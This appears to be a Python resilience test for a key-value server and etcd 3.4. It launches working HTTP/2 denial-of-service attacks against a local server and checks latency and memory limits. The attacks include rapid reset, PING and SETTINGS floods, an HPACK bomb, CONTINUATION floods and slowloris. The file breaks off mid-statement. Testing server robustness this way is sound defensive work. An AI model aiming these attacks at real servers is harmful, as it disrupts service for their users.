"""
h2_abuse: HTTP/2 and connection abuse on the client port (issue #5) must
leave the server serving other clients promptly, with bounded memory, and
alive.

One server; a well-behaved python3-etcd3 client does put+get in a loop for the
whole test; an RSS sampler reads /proc/PID/status (VmRSS) every 50 ms.  Each
attack runs for a few seconds in its own child process (this script with
--attack NAME, so its CPU use does not steal the good client's GIL), then the
phase is judged:

  rapid_reset    HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL), in batches,
                 on one connection each reset right behind its request, on
                 another the resets a write later (once work has started),
                 reconnecting whenever the server drops us (CVE-2023-44487);
  ping_flood     PING frames as fast as they go (read and acked);
  settings_flood SETTINGS frames as fast as they go, plus one with 1000
                 entries per connection;
  headers        a 1 MB header value over CONTINUATION frames, an HPACK bomb
                 (one 4 KB dynamic-table entry referenced 12,000 times: 48 MB
                 decoded per block), and a CONTINUATION flood that never sets
                 END_HEADERS (CVE-2024-27316, CVE-2024-28182);
  window_data    WINDOW_UPDATE(+1) and empty DATA frames on an open stream;
  never_read     4 clients that open all flow-control windows, ask for a 1 MB
                 value 200 times each (serializable on 3, linearizable on
                 1) and never read a byte, and one that floods PINGs
                 without reading: the server must keep its output for them
                 bounded and close the PING flooder (keepalive, with
                 SERVER_ARGS, usually closes the others too);
  slow_watch     watchers that take nothing: 2 connections of 4 Watch
                 streams (on one small key; on the prefix of both keys, so
                 past their high water within a second) that read the
                 socket and answer PINGs but never open a flow-control
                 window, while one reader (windows wide open) watches a big
                 key and a writer changes both in one txn (a 256 KB value
                 beside a small one) as fast as it can, compacting as it
                 goes: the answers held for the slow streams must cost what
                 they hold, not the big values written beside them;
  partial        gRPC requests that never finish: 80 streams of 2 MB
                 messages sent but for their last 10 KB, within the
                 server's flow-control windows (python3-h2);
  slowloris      the HTTP/2 preface one byte at a time, HTTP/1.1 headers that
                 never end, HTTP/1.1 bodies that stop short of Content-Length;
  idle           (first, on a fresh heap) thousands of idle connections
                 (half of them only TCP, half after the HTTP/2 preface and
                 SETTINGS): memory per connection is reported and bounded.

Judged per phase: every good-client request answered within GOOD_LATENCY_MAX
seconds and none failed; a new etcdctl client is served while the attack
runs; the RSS peak stays under RSS_MAX_MB and RSS_GROWTH_MB above the
phase's start; within RSS_RETURN_S of the
attackers leaving, RSS comes back under the pre-attack level plus
RSS_RETURN_MB; the server is alive.  And per attack: every idle connection is
accepted and costs at most IDLE_BYTES_MAX; the PING flooder that never reads
is closed; the slow prefaces and HTTP/1 heads are closed by the end of their
phase.  The table printed at the end gives the
figures of issue #5.

Against the real etcd 3.4 (RAFTKV=/usr/bin/etcd) the same attacks run and the
same figures are printed, but where etcd 3.4 is known to fail (ETCD_KNOWN_WEAK
below, with what was measured) the checks only warn.  raftkv is held to every
check.  An attacker is stopped once the server passes RSS_SAFETY_MB, and the
server killed past twice that (the test box is shared).  With a sanitizer
build of the server (the CI's ASan suite) the memory figures are printed but
not judged: the quarantine and shadow memory are most of them.

Run alone:  RAFTKV=raftkv/raftkv /usr/bin/python3 tests/integration/h2_abuse.py
Some attacks: ... h2_abuse.py --only never_read,partial
The idle phase opens H2_ABUSE_IDLE (5000) connections, fewer if the hard
RLIMIT_NOFILE is lower; the server raises its own soft limit.
"""
import json
import os
import resource
import select
import socket
import struct
import subprocess
import sys
import threading
import time

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 8

GOOD_LATENCY_MAX = 2.0      # s, every good-client request, during every attack
RSS_MAX_MB = 200            # peak VmRSS during any attack
RSS_GROWTH_MB = 160         # ... and its growth over the phase's start
RSS_RETURN_MB = 16          # after an attack, RSS must fall back under before + this
RSS_RETURN_S = 8            # ... within this many seconds
IDLE_BYTES_MAX = 20 * 1024  # RSS per idle connection (etcd's docs: "O(10 KB)")
RSS_SAFETY_MB = 1536        # an attacker is stopped early past this (the box is shared),
                            # the server killed past twice this
BIG_VALUE = 1000000         # the value the never_read clients ask for
NEVER_READ_REQUESTS = 200   # ... on each connection
# etcd's keepalive flags (defaults 2h and 20s), short enough that a client
# which stopped reading is found within the never_read phase; both servers
# take them.
SERVER_ARGS = ["--grpc-keepalive-interval=2s", "--grpc-keepalive-timeout=2s"]

# Where etcd 3.4.23 (Debian, grpc-go) does not hold raftkv's bounds, as
# measured on the 2-core test box, each attack alone: there the checks only
# warn under RAFTKV=/usr/bin/etcd.  Its RSS never has to come back either:
# Go's runtime returns freed memory to the kernel over minutes.
ETCD_KNOWN_WEAK = {
    "idle": "about 50 KB per idle HTTP/2 connection",
    "headers": "a 1 MB header and HPACK bombs cost it 120-165 MB, slowest request 0.5 s",
    "ping_flood": "queues every PING ACK: 430 MB, slowest request 1.1 s",
    "never_read": "answers every request into memory: 1.1 GB for 800 MB asked",
    "partial": "buffers every partial message: 250 MB for 160 MB sent",
    "slow_watch": "its RSS grows with the 256 KB values written, compacted or not: 1.4-1.5 GB "
                  "within the phase, as much without the slow watchers",
    "slowloris": "no read timeouts: slow prefaces and heads stay open",
}


# --- frames ---------------------------------------------------------------

def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def hpack_plain(headers):
    """A stateless header block: every field a literal never indexed, so the
    same bytes can be replayed on any stream of any connection."""
    import hpack
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])


def grpc_headers(port, method="/etcdserverpb.KV/Range"):
    return [(":method", "POST"), (":scheme", "http"), (":path", method),
            (":authority", "127.0.0.1:%d" % port), ("content-type", "application/grpc"),
            ("te", "trailers")]


def varint(n):
    out = b""
    while True:
        b = n & 0x7f
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def range_msg(key, serializable=False):
    """A gRPC-framed etcdserverpb.RangeRequest."""
    pb = b"\x0a" + varint(len(key)) + key
    if serializable:
        pb += b"\x38\x01"
    return b"\x00" + struct.pack(">I", len(pb)) + pb


class Conn:
    """A raw client connection: counts what it sent and received and notices
    when the server drops it (EOF, reset, GOAWAY)."""

    def __init__(self, port, h2=True, rcvbuf=None, hello=None, timeout=5.0):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.s.settimeout(timeout)
        self.s.connect(("127.0.0.1", port))
        self.dead = False
        self.goaway = False
        self.sent = 0
        self.rx = b""
        self.frames = {}
        self.next_id = 1
        if h2:
            self.send(PREFACE + (hello if hello is not None else settings()))

    def send(self, data, timeout=None):
        """Sends all of data; False when the server dropped us or did not
        take it within timeout (it stopped reading)."""
        if self.dead:
            return False
        if timeout is not None:
            self.s.settimeout(timeout)
        try:
            self.s.sendall(data)
            self.sent += len(data)
            return True
        except socket.timeout:
            return False
        except OSError:
            self.dead = True
            return False

    def drain(self, parse=True):
        """Reads what is there without waiting."""
        while not self.dead:
            p = select.poll()
            p.register(self.s, select.POLLIN)
            if not p.poll(0):
                return
            try:
                b = self.s.recv(1 << 20)
            except OSError:
                self.dead = True
                return
            if not b:
                self.dead = True
                return
            if not parse:
                continue
            self.rx += b
            while len(self.rx) >= 9:
                n = struct.unpack(">I", b"\x00" + self.rx[:3])[0]
                if len(self.rx) < 9 + n:
                    break
                t = self.rx[3]
                self.frames[t] = self.frames.get(t, 0) + 1
                if t == GOAWAY:
                    self.goaway = True
                self.rx = self.rx[9 + n:]

    def stream(self):
        sid = self.next_id
        self.next_id += 2
        return sid

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


def watch_create_msg(key, range_end=b""):
    """A gRPC-framed etcdserverpb.WatchRequest creating a watcher on key
    (up to range_end when given)."""
    create = b"\x0a" + varint(len(key)) + key
    if range_end:
        create += b"\x12" + varint(len(range_end)) + range_end
    pb = b"\x0a" + varint(len(create)) + create
    return b"\x00" + struct.pack(">I", len(pb)) + pb


class FrameReader:
    """Reads what a connection gets, frame by frame, without keeping it:
    answers PING and SETTINGS (a client that does only that looks alive to
    keepalive) and counts the DATA bytes.  It never sends WINDOW_UPDATE: a
    stream gets only its initial window, as from a client whose application
    does not read its stream."""

    def __init__(self, conn):
        self.c = conn
        self.buf = bytearray()
        self.data = 0

    def pump(self):
        c = self.c
        while not c.dead:
            p = select.poll()
            p.register(c.s, select.POLLIN)
            if not p.poll(0):
                break
            try:
                b = c.s.recv(1 << 20)
            except OSError:
                b = b""
            if not b:
                c.dead = True
                break
            self.buf += b
        pos, acks = 0, []
        while len(self.buf) - pos >= 9:
            n = struct.unpack(">I", b"\x00" + self.buf[pos:pos + 3])[0]
            if len(self.buf) - pos < 9 + n:
                break
            t, flags = self.buf[pos + 3], self.buf[pos + 4]
            if t == PING and not flags & ACK:
                acks.append(frame(PING, ACK, 0, bytes(self.buf[pos + 9:pos + 17])))
            elif t == SETTINGS and not flags & ACK:
                acks.append(frame(SETTINGS, ACK, 0))
            elif t == DATA:
                self.data += n
            elif t == GOAWAY:
                c.goaway = True
            pos += 9 + n
        del self.buf[:pos]
        if acks:
            c.send(b"".join(acks), timeout=1.0)


# --- the attacks (each runs in a child process, prints one JSON line) -------

def attack_rapid_reset(port, until):
    block = hpack_plain(grpc_headers(port))
    msg = range_msg(b"rr-key")
    st = {"streams": 0, "conns": 0, "goaways": 0}
    conns = []
    while time.monotonic() < until:
        conns = [c for c in conns if not c.dead]
        while len(conns) < 2:
            conns.append(Conn(port))
            st["conns"] += 1
        for k, c in enumerate(conns):
            reqs, rsts = [], []
            for _ in range(200):
                sid = c.stream()
                reqs.append(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, msg))
                rsts.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
            if k == 0:
                # each reset right behind its request, in the same read
                ok = c.send(b"".join(r + x for r, x in zip(reqs, rsts)), timeout=1.0)
            else:
                # the resets in a later write: the server has started the work
                ok = c.send(b"".join(reqs), timeout=1.0)
                time.sleep(0.002)
                ok = c.send(b"".join(rsts), timeout=1.0) and ok
            if ok:
                st["streams"] += 200
            c.drain()
            if c.dead or c.goaway:
                st["goaways"] += c.goaway
                c.dead = True
                c.close()
    return st


def attack_ping_flood(port, until):
    pings = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
    st = {"pings": 0, "acks": 0, "conns": 0}
    c = None
    while time.monotonic() < until:
        if c is None or c.dead:
            if c:
                st["acks"] += c.frames.get(PING, 0)
            c = Conn(port)
            st["conns"] += 1
        if c.send(pings, timeout=1.0):
            st["pings"] += 1000
        c.drain()
    st["acks"] += c.frames.get(PING, 0)
    return st


def attack_settings_flood(port, until):
    one = settings((1, 4096), (3, 100))
    flood = one * 1000
    big = settings(*[(3, 100 + i) for i in range(1000)])
    st = {"settings": 0, "acks": 0, "conns": 0}
    c = None
    while time.monotonic() < until:
        if c is None or c.dead:
            if c:
                st["acks"] += c.frames.get(SETTINGS, 0)
            c = Conn(port)
            st["conns"] += 1
            if st["conns"] % 2 == 0:
                c.send(big, timeout=1.0)
        if c.send(flood, timeout=1.0):
            st["settings"] += 1000
        c.drain()
    st["acks"] += c.frames.get(SETTINGS, 0)
    return st


def attack_headers(port, until):
    import hpack
    base = hpack_plain(grpc_headers(port))
    st = {"big_header": 0, "bomb_blocks": 0, "continuations": 0, "conns": 0}

    def big_header(c):
        # 'x-big': 1,000,000 bytes as a literal, the value spread over
        # CONTINUATION frames of 16 KB.
        value_len = 1000000
        lit = b"\x10\x05x-big" + bytes(hpack.hpack.encode_integer(value_len, 7))
        sid = c.stream()
        body = b"a" * value_len
        out = [frame(HEADERS, 0, sid, base + lit + body[:8000])]
        off = 8000
        while off < value_len:
            chunk = body[off:off + 16000]
            off += len(chunk)
            out.append(frame(CONTINUATION, END_HEADERS if off >= value_len else 0, sid, chunk))
        for f in out:
            if not c.send(f, timeout=1.0):
                break
            c.drain()
        st["big_header"] += 1

    def bomb(c):
        sid = c.stream()
        # literal with incremental indexing: 'x-bomb' -> dynamic index 62
        entry = b"\x40\x06x-bomb" + bytes(hpack.hpack.encode_integer(4000, 7)) + b"b" * 4000
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, base + entry), timeout=1.0)
        for _ in range(5):
            sid = c.stream()
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, base + b"\xbe" * 12000), timeout=1.0)
            st["bomb_blocks"] += 1
        c.drain()

    def continuation_flood(c):
        sid = c.stream()
        junk = b"".join(b"\x10\x03x-c\x0a" + b"0123456789" for _ in range(1000))  # 16 KB of fields
        if not c.send(frame(HEADERS, 0, sid, base), timeout=1.0):
            return
        for _ in range(200):
            if not c.send(frame(CONTINUATION, 0, sid, junk), timeout=1.0):
                break
            st["continuations"] += 1
            c.drain()
            if c.dead:
                break

    kinds = [big_header, bomb, continuation_flood]
    i = 0
    while time.monotonic() < until:
        c = Conn(port)
        st["conns"] += 1
        kinds[i % 3](c)
        i += 1
        c.drain()
        c.close()
    return st


def attack_window_data(port, until):
    block = hpack_plain(grpc_headers(port, "/etcdserverpb.Watch/Watch"))
    st = {"frames": 0, "conns": 0}
    c = None
    while time.monotonic() < until:
        if c is None or c.dead:
            c = Conn(port)
            st["conns"] += 1
            sids = [c.stream() for _ in range(4)]
            c.send(b"".join(frame(HEADERS, END_HEADERS, sid, block) for sid in sids))
            batch = b"".join(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) +
                             frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 1)) +
                             frame(DATA, 0, sid, b"") for sid in sids for _ in range(250))
        if c.send(batch, timeout=1.0):
            st["frames"] += 3000
        c.drain()
    return st


def attack_never_read(port, until):
    """Opens every window, asks for the 1 MB value 200 times per connection
    (800 MB of answers in all: enough to tell a bound from none, not enough
    to take down a shared box with a server that has none), never reads."""
    block = hpack_plain(grpc_headers(port))
    # serializable Ranges are answered at once, linearizable ones after a
    # barrier: many at a time
    msgs = [range_msg(b"big", serializable=i < 3) for i in range(4)]
    wide = settings((4, 0x7fffffff)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff - 65535))
    conns = [Conn(port, rcvbuf=4096, hello=wide) for _ in range(4)]
    pinger = Conn(port, rcvbuf=4096)
    pings = b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(1000))
    st = {"requests": 0, "blocked_sends": 0, "pings": 0, "dropped": 0, "pinger_dropped": False}
    while time.monotonic() < until:
        progress = False
        for c, msg in zip(conns, msgs):
            if c.dead or c.next_id > 2 * NEVER_READ_REQUESTS:
                continue
            batch = []
            for _ in range(50):
                sid = c.stream()
                batch.append(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, msg))
            if c.send(b"".join(batch), timeout=0.2):
                st["requests"] += 50
                progress = True
            else:
                st["blocked_sends"] += 1
        if not pinger.dead and pinger.send(pings, timeout=0.2):
            st["pings"] += 1000
            progress = True
        if not progress:
            time.sleep(0.1)
    for c in conns + [pinger]:
        c.drain(parse=False)   # reads to the end of what the server sent: EOF or reset if it closed us
    st["dropped"] = sum(c.dead for c in conns)
    st["pinger_dropped"] = pinger.dead
    return st


def attack_slow_watch(port, until):
    """Slow watchers of a small key beside a big one written in the same
    revisions: what the server holds for them must stay as small as what
    they were sent (a response that kept a shared encoding of the whole
    revision alive would hold every big value written meanwhile)."""
    import cluster
    block = hpack_plain(grpc_headers(port, "/etcdserverpb.Watch/Watch"))
    # the reader: every window as wide as HTTP/2 allows, drained at once
    wide = settings((4, 0x7fffffff)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fffffff - 65535))
    reader = FrameReader(Conn(port, hello=wide))
    sid = reader.c.stream()
    reader.c.send(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, 0, sid, watch_create_msg(b"sw/big")))
    # the slow: on one connection watchers of the small key only; on the
    # other of the prefix sw/, big values included, whose streams pass
    # their high water within a second and must stop there
    slow = []
    for create in (watch_create_msg(b"sw/small"), watch_create_msg(b"sw/", b"sw0")):
        r = FrameReader(Conn(port))
        for _ in range(4):
            sid = r.c.stream()
            r.c.send(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, 0, sid, create))
        slow.append(r)
    w = cluster.py_client(port, timeout=10)
    big = b"B" * 262144
    st = {"txns": 0, "compactions": 0, "reader_bytes": 0, "slow_bytes": 0, "dropped": 0}
    while time.monotonic() < until:
        try:
            w.transaction(compare=[], success=[w.transactions.put("sw/small", "s%d" % st["txns"]),
                                                          w.transactions.put("sw/big", big)], failure=[])
        except Exception:
            time.sleep(0.05)   # the server is slow under the other load: go on
            continue
        st["txns"] += 1
        if st["txns"] % 20 == 0:
            # keeps the store's history (256 KB a revision) small
            try:
                w.compact(w.get("sw/small")[1].mod_revision)
                st["compactions"] += 1
            except Exception:
                pass
        for r in [reader] + slow:
            r.pump()
    for r in [reader] + slow:
        r.pump()
    st["reader_bytes"] = reader.data
    st["slow_bytes"] = sum(r.data for r in slow)
    st["dropped"] = sum(r.c.dead for r in slow)
    w.close()
    return st


def attack_partial(port, until):
    """Requests that never finish: gRPC Puts announcing 2,000,000-byte
    messages, sent but for their last 10 KB, 40 streams on each of 2
    connections (160 MB offered; raftkv holds 64 MiB per connection).  python3-h2 keeps the attacker within the server's
    flow-control windows, so it gets exactly as far as the server lets it."""
    import h2.config
    import h2.connection
    import h2.exceptions
    size, keep_back = 2000000, 10000
    headers = grpc_headers(port, "/etcdserverpb.KV/Put")
    st = {"streams": 0, "bytes": 0, "dropped": 0, "ended_by_server": 0}
    conns = []
    for _ in range(int(os.environ.get("H2_ABUSE_PARTIAL_CONNS", "2"))):
        c = Conn(port, h2=False)
        h = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        h.initiate_connection()
        left = {}
        for _ in range(40):
            sid = h.get_next_available_stream_id()
            h.send_headers(sid, headers)
            h.send_data(sid, b"\x00" + struct.pack(">I", size))
            left[sid] = size - keep_back
            st["streams"] += 1
        c.send(h.data_to_send(), timeout=1.0)
        conns.append((c, h, left))
    chunk = b"P" * 16384
    while time.monotonic() < until:
        progress = False
        for c, h, left in conns:
            if c.dead:
                continue
            for sid, n in list(left.items()):
                try:
                    w = min(n, h.local_flow_control_window(sid), h.max_outbound_frame_size)
                    if w > 0:
                        h.send_data(sid, chunk[:w])
                        left[sid] = n - w
                        st["bytes"] += w
                        progress = True
                except h2.exceptions.StreamClosedError:
                    del left[sid]   # the server ended it (refused the request)
                    st["ended_by_server"] += 1
            out = h.data_to_send()
            if out and not c.send(out, timeout=1.0):
                continue
            try:
                c.s.settimeout(0.01)
                b = c.s.recv(1 << 20)
                if not b:
                    c.dead = True
                    continue
                h.receive_data(b)
                out = h.data_to_send()
                if out:
                    c.send(out, timeout=1.0)
            except socket.timeout:
                pass
            except Exception:
                c.dead = True
        if not progress:
            time.sleep(0.05)
    st["dropped"] = sum(c.dead for c, _, _ in conns)
    return st


def attack_slowloris(port, until):
    n = 150
    h2 = [Conn(port, h2=False) for _ in range(n)]
    h1 = [Conn(port, h2=False) for _ in range(n)]
    for c in h1:
        c.send(b"GET /health HTTP/1.1\r\nHost: x\r\n")
    bodies = [Conn(port, h2=False) for _ in range(20)]
    for c in bodies:
        c.send(b"POST /v3/kv/put HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
               b"Content-Length: 4000000\r\n\r\n{\"key\": \"" + b"A" * 3900000, timeout=5.0)
    i = 0
    st = {"h2": n, "h1": n, "bodies": len(bodies), "dropped_h2": 0, "dropped_h1": 0, "dropped_bodies": 0}
    while time.monotonic() < until:
        for c in h2:
            if i < len(PREFACE) - 1:
                c.send(PREFACE[i:i + 1], timeout=0.2)
        for c in h1:
            c.send(b"X", timeout=0.2)
        for c in bodies:
            c.send(b"A", timeout=0.2)
        i += 1
        time.sleep(0.5)
    for name, lst in (("h2", h2), ("h1", h1), ("bodies", bodies)):
        for c in lst:
            c.drain(parse=False)
        st["dropped_" + name] = sum(c.dead for c in lst)
    return st


def attack_idle(port, until, report):
    """Holds idle connections; tells the parent (report()) when each half is
    open so it can take RSS figures."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = int(os.environ.get("H2_ABUSE_IDLE", "5000"))
    n = max(0, min(want, hard - 200))
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 200), hard))
    half = n // 2
    tcp, h2 = [], []
    refused = 0
    for _ in range(half):
        try:
            tcp.append(Conn(port, h2=False))
        except OSError:
            refused += 1
    report({"stage": "tcp", "open": len(tcp), "refused": refused})
    sys.stdin.readline()
    for _ in range(n - half):
        try:
            h2.append(Conn(port))
        except OSError:
            refused += 1
    report({"stage": "h2", "open": len(h2), "refused": refused})
    sys.stdin.readline()
    for c in tcp + h2:
        c.drain(parse=False)
    st = {"tcp": len(tcp), "h2": len(h2), "refused": refused,
          "dropped": sum(c.dead for c in tcp + h2)}
    for c in tcp + h2:
        c.close()
    return st


ATTACKS = {
    "idle": (attack_idle, 0),  # first: bytes per connection need a heap that has not grown yet
    "rapid_reset": (attack_rapid_reset, 5),
    "ping_flood": (attack_ping_flood, 5),
    "settings_flood": (attack_settings_flood, 5),
    "headers": (attack_headers, 5),
    "window_data": (attack_window_data, 5),
    "never_read": (attack_never_read, 10),
    "slow_watch": (attack_slow_watch, 10),
    "partial": (attack_partial, 8),
    "slowloris": (attack_slowloris, 14),
}


def attack_main(name, port, duration):
    fn, _ = ATTACKS[name]
    until = time.monotonic() + duration

    def report(d):
        print(json.dumps(d), flush=True)

    try:
        st = fn(port, until, report) if name == "idle" else fn(port, until)
    except Exception as e:  # an attacker crashing is a test bug: say so
        st = {"error": "%s: %s" % (type(e).__name__, e)}
    report({"done": st})


# --- the parent: good client, RSS sampler, judging ----------------------------

class Sampler(threading.Thread):
    def __init__(self, pid):
        super().__init__(daemon=True)
        self.pid = pid
        self.cur = 0
        self.peak = 0
        self.victim = None      # the attacker to stop past RSS_SAFETY_MB
        self.killed = False
        self.stop_ev = threading.Event()

    def rss(self):
        try:
            with open("/proc/%d/status" % self.pid) as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        return int(line.split()[1]) * 1024
        except OSError:
            pass
        return 0

    def reset_peak(self):
        self.peak = self.rss()

    def run(self):
        while not self.stop_ev.is_set():
            self.cur = self.rss()
            self.peak = max(self.peak, self.cur)
            v = self.victim
            if v is not None and self.cur > RSS_SAFETY_MB * 1048576 and v.poll() is None:
                v.kill()
                self.killed = True
            if self.cur > 2 * RSS_SAFETY_MB * 1048576:
                try:
                    os.kill(self.pid, 9)
                except OSError:
                    pass
            time.sleep(0.05)


class Good(threading.Thread):
    """put + get in a loop; records each request's latency and failures."""

    def __init__(self, client):
        super().__init__(daemon=True)
        self.c = client
        self.lock = threading.Lock()
        self.lat = []
        self.errors = []
        self.t0 = None          # start of the request in flight
        self.stop_ev = threading.Event()

    def take(self):
        """Latencies since the last take; a request still in flight counts
        with its age so far (a stuck client must not look idle)."""
        with self.lock:
            lat, err = self.lat, self.errors
            self.lat, self.errors = [], []
            if self.t0 is not None:
                lat.append(time.monotonic() - self.t0)
        return lat, err

    def run(self):
        i = 0
        while not self.stop_ev.is_set():
            i += 1
            for op in ("put", "get"):
                t0 = self.t0 = time.monotonic()
                try:
                    if op == "put":
                        self.c.put("good/%d" % (i % 100), "v%d" % i)
                    else:
                        v = self.c.get("good/%d" % (i % 100))[0]
                        if v != b"v%d" % i:
                            raise RuntimeError("get returned %r, want v%d" % (v, i))
                    err = None
                except Exception as e:
                    err = "%s %s: %s" % (op, type(e).__name__, str(e)[:200])
                dt = time.monotonic() - t0
                with self.lock:
                    self.t0 = None
                    self.lat.append(dt)
                    if err:
                        self.errors.append(err)
            time.sleep(0.005)


def mb(n):
    return n / 1048576.0


def main(t):
    import cluster
    from cluster import Failure, check, log

    cluster.require_python_etcd3()
    only = os.environ.get("H2_ABUSE_ONLY")
    if "--only" in sys.argv:
        only = sys.argv[sys.argv.index("--only") + 1]
    is_etcd = os.path.basename(t.binary) == "etcd"
    # An ASan build's RSS is its shadow memory and its quarantine of freed
    # blocks: the memory figures are printed, not judged.
    with open(t.binary, "rb") as f:
        sanitized = b"__asan_init" in f.read()
    if sanitized:
        log("sanitizer build: memory figures are not judged")
    # The server inherits our soft RLIMIT_NOFILE and must raise it itself
    # (as Go does for etcd); only the idle attacker raises its own.
    m = t.cluster(extra_args=SERVER_ARGS).members[0]
    pid = m.proc.pid
    c = m.client(timeout=10)
    c.put("big", b"B" * BIG_VALUE)
    sampler = Sampler(pid)
    sampler.start()
    good = Good(c)
    good.start()
    time.sleep(1.0)
    good.take()
    results = []
    problems = []
    me = os.path.abspath(__file__)

    for name, (fn, dur) in ATTACKS.items():
        if only and name not in only.split(","):
            continue
        check(m.running(), "server died before %s" % name)
        time.sleep(0.5)
        rss_before = sampler.cur
        sampler.reset_peak()
        good.take()
        log("attack %s for %ss (RSS %.1f MB)" % (name, dur or "", mb(rss_before)))
        p = subprocess.Popen([sys.executable, me, "--attack", name, str(m.client_port), str(dur)],
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        sampler.killed = False
        sampler.victim = p
        extra = {}
        new_client = None
        if name == "idle":
            for stage in ("tcp", "h2"):
                d = json.loads(p.stdout.readline())
                time.sleep(1.5)
                rss = sampler.cur
                extra[stage + "_stage"] = d
                extra[stage + "_bytes_per_conn"] = int((rss - rss_before) / max(1, d["open"]))
                if stage == "tcp":
                    rss_tcp = rss
                else:
                    extra["h2_bytes_per_conn"] = int((rss - rss_tcp) / max(1, d["open"]))
                t0 = time.monotonic()
                r = m.ctl("get", "big", "--print-value-only", check_rc=False, timeout=20)
                new_client = (time.monotonic() - t0, r.returncode)
                p.stdin.write("\n")
                p.stdin.flush()
        else:
            time.sleep(dur / 2.0)
            t0 = time.monotonic()
            r = m.ctl("get", "big", "--print-value-only", check_rc=False, timeout=20)
            new_client = (time.monotonic() - t0, r.returncode)
        out, _ = p.communicate(timeout=60)
        sampler.victim = None
        if sampler.killed:
            st = {"stopped": "server RSS over the %d MB safety cap" % RSS_SAFETY_MB}
        else:
            st = json.loads(out.strip().splitlines()[-1])["done"]
        st.update(extra)
        peak = sampler.peak
        lat, errs = good.take()
        # memory must come back once the attackers are gone
        deadline = time.monotonic() + (0 if sanitized else RSS_RETURN_S)
        while time.monotonic() < deadline and sampler.cur > rss_before + RSS_RETURN_MB * 1048576:
            time.sleep(0.1)
        rss_after = sampler.cur
        res = {"attack": name, "ops": len(lat), "lat_max": max(lat) if lat else None,
               "errors": len(errs), "new_client_s": round(new_client[0], 2),
               "new_client_rc": new_client[1], "rss_before_mb": round(mb(rss_before), 1),
               "rss_peak_mb": round(mb(peak), 1), "rss_after_mb": round(mb(rss_after), 1),
               "alive": m.running(), "attacker": st}
        results.append(res)
        log(json.dumps(res))

        def judge(ok, what, go_runtime=False, memory=False):
            if ok or (memory and sanitized):
                return
            weak = is_etcd and (name in ETCD_KNOWN_WEAK or go_runtime)
            msg = "%s: %s" % (name, what)
            if weak:
                why = ETCD_KNOWN_WEAK.get(name) or "Go's runtime keeps freed memory for minutes"
                log("WARNING (etcd, known weak: %s): %s" % (why, msg))
            else:
                problems.append(msg)

        check(m.running(), "%s: the server died (status %s)" % (name, m.proc.returncode))
        check("error" not in st, "%s: attacker failed: %s" % (name, st.get("error")))
        judge(not errs, "good client errors: %s" % errs[:3])
        judge(lat and max(lat) <= GOOD_LATENCY_MAX,
              "good client latency max %.2fs > %.1fs" % (max(lat) if lat else -1, GOOD_LATENCY_MAX))
        judge(new_client[1] == 0 and new_client[0] <= 5.0,
              "a new etcdctl client: rc %d after %.1fs" % (new_client[1], new_client[0]))
        judge(peak - rss_before <= RSS_GROWTH_MB * 1048576,
              "RSS grew by %.1f MB > %d MB" % (mb(peak - rss_before), RSS_GROWTH_MB), memory=True)
        # etcd starts later phases with what Go kept from the earlier ones
        judge(mb(peak) <= RSS_MAX_MB, "RSS peak %.1f MB > %d MB" % (mb(peak), RSS_MAX_MB), go_runtime=True,
              memory=True)
        judge(rss_after <= rss_before + RSS_RETURN_MB * 1048576,
              "RSS %.1f MB %ds after the attack, %.1f MB before" % (mb(rss_after), RSS_RETURN_S, mb(rss_before)),
              go_runtime=True, memory=True)
        if "stopped" in st:
            judge(False, "attacker stopped: " + st["stopped"])
        elif name == "idle":
            judge(st["refused"] == 0 and st["tcp"] + st["h2"] > 0,
                  "idle connections: %d opened, %d refused" % (st["tcp"] + st["h2"], st["refused"]))
            for k in ("tcp_bytes_per_conn", "h2_bytes_per_conn"):
                judge(st[k] <= IDLE_BYTES_MAX, "%s %d > %d" % (k, st[k], IDLE_BYTES_MAX), memory=True)
        elif name == "never_read":
            # grpc-go's ping policy (--grpc-keepalive-min-time) ends the
            # flood.  Keepalive (SERVER_ARGS) usually closes the other four
            # too ("dropped"), but not always within the phase: the kernel
            # of a client that never reads still makes room now and then,
            # and data going out counts as a sign of life.
            judge(st["pinger_dropped"], "the PING flooder that never reads was not closed")
        elif name == "slowloris":
            judge(st["dropped_h2"] == st["h2"] and st["dropped_h1"] == st["h1"],
                  "slow prefaces closed: %d/%d, slow HTTP/1 heads closed: %d/%d"
